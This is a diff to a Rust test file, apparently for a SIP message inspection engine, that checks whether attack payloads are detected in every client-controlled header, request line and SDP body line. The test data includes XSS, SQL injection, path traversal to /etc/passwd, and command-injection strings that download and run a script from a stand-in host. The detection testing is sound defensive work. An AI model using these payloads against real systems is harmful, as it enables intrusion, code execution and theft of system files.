@@ -82,6 +82,96 @@ fn attacks_are_found_wherever_they_stand() {
     }
 }
 
+/// Each is found by itself, in a place where only such a value would be read.
+const PAYLOADS: [(&str, &str); 9] = [
+    ("<script>alert(1)</script>", "xss"),
+    ("<img src=x onerror=alert(1)>", "xss"),
+    ("1' OR '1'='1' -- ", "sqli"),
+    ("1 UNION SELECT user, password FROM users", "sqli"),
+    ("1;wget http://evil.example/x.sh", "command-injection"),
+    ("$(curl http://evil.example/x.sh|sh)", "command-injection"),
+    ("../../../../etc/passwd", "path-traversal"),
+    ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path-traversal"),
+    // <script>alert(1)</script>
+    ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"),
+];
+
+/// Lines of a message, each with a `#` where what a client makes up stands.
+const FIELDS: [&str; 33] = [
+    "From: \"#\" <sip:a@b.example>;tag=1",
+    "f: \"#\" <sip:a@b.example>;tag=1",
+    "From: # <sip:a@b.example>;tag=1",
+    "From: <sip:#@b.example>;tag=1",
+    "From: <sip:a:#@b.example>;tag=1",
+    "From: <sip:a@#>;tag=1",
+    "From: <sip:a@b.example;user=#>;tag=1",
+    "From: <sip:a@b.example;x=#>;tag=1",
+    "From: <sip:a@b.example?Subject=#>;tag=1",
+    "From: sip:a@b.example;tag=#",
+    "To: <sip:a@b.example>;tag=#",
+    "t: <sip:a@b.example>;tag=1;x=#",
+    "Contact: <sip:a@b.example;transport=#>;expires=1",
+    "m: <sip:a@b.example>;+sip.instance=\"<urn:uuid:#>\"",
+    "Contact: <sip:a@b.example>;+sip.instance=\"#\"",
+    "Via: SIP/2.0/WSS a.invalid;branch=#",
+    "v: SIP/2.0/WSS a.invalid;received=#;branch=z9hG4bK1",
+    "Via: SIP/2.0/WSS #;branch=z9hG4bK1",
+    "Via: SIP/2.0/# a.invalid;branch=z9hG4bK1",
+    "Via: SIP/2.0/WSS a.invalid;branch=z9hG4bK1,SIP/2.0/WS a.invalid;branch=#",
+    "Call-ID: #",
+    "i: 1@#",
+    "CSeq: 1 #",
+    "Max-Forwards: #",
+    "Subject: #",
+    "s: #",
+    "User-Agent: #",
+    "Reason: Q.850;cause=16;text=\"#\"",
+    "X-Own: #",
+    "X-Own: harmless\r\nX-Own: #\r\nX-Own: harmless",
+    "Supported: outbound, path, #",
+    "Content-Type: text/#",
+    "Subject: one,\r\n #",
+];
+
+const STARTS: [&str; 4] =
+    ["OPTIONS sip:#@b SIP/2.0", "OPTIONS sip:a@b;x=# SIP/2.0", "# sip:a@b SIP/2.0", "SIP/2.0 200 #"];
+
+/// Lines of a body in SDP.
+const LINES: [&str; 8] = [
+    "o=# 1 1 IN IP4 127.0.0.1",
+    "s=#",
+    "i=#",
+    "c=IN IP4 #",
+    "a=tool:#",
+    "a=#",
+    "a=fmtp:96 x=1;#",
+    "a=rtpmap:96 #/8000",
+];
+
+#[test]
+fn attacks_are_found_in_every_field_that_a_client_makes_up() {
+    let inspection = Inspection::compile(Settings::default()).expect("settings without faults");
+    let mut scratch = Scratch::default();
+    let mut missed = Vec::new();
+    for (payload, category) in PAYLOADS {
+        let via = "Via: SIP/2.0/WSS a.invalid;branch=z9hG4bK1";
+        let fields = FIELDS.map(|field| {
+            format!("OPTIONS sip:bob@example.org SIP/2.0\r\n{via}\r\n{field}\r\nContent-Length: 0\r\n\r\n")
+        });
+        let starts = STARTS.map(|start| format!("{start}\r\n{via}\r\nContent-Length: 0\r\n\r\n"));
+        let bodies = LINES.map(|line| message(ALICE, "", &format!("v=0\r\n{line}\r\nt=0 0\r\n")));
+        for text in fields.iter().chain(&starts).chain(&bodies) {
+            let text = text.replace('#', payload);
+            let subject = Subject { from: Side::Client, kind: Kind::Text, payload: text.as_bytes() };
+            let findings = inspection.judge(subject, &mut scratch).findings;
+            if !findings.iter().any(|finding| finding.category.name() == category) {
+                missed.push(text);
+            }
+        }
+    }
+    assert!(missed.is_empty(), "{} missed: {missed:#?}", missed.len());
+}
+
 #[test]
 fn what_is_found_in_a_part_is_not_told_of_the_whole_again() {
     let sent = message(ALICE, "Subject: <img src=x onerror=alert(1)>\r\n", "<img src=x onerror=alert(1)>");
